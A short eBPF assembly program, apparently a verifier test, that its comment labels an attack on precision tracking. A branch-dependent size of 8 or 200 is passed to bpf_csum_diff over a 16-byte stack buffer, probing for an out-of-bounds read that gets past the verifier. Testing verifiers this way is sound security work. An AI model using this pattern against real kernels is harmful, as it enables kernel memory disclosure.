# Attack on precision tracking: r7 (8 or 200) becomes the size of a
# bpf_csum_diff memory argument over a 16-byte stack buffer.
ldxw r2, [r1+0]
ldxw r3, [r1+4]
mov64 r4, r2
add64 r4, 1
jgt r4, r3, +15
ldxb r6, [r2+0]
stdw [r10-8], 0
stdw [r10-16], 0
jgt r6, 10, +2
mov64 r7, 8
ja +1
mov64 r7, 200
mov64 r1, r10
add64 r1, -16
mov64 r2, r7
mov64 r3, 0
mov64 r4, 0
mov64 r5, 0
call 28
exit
mov64 r0, 0
exit
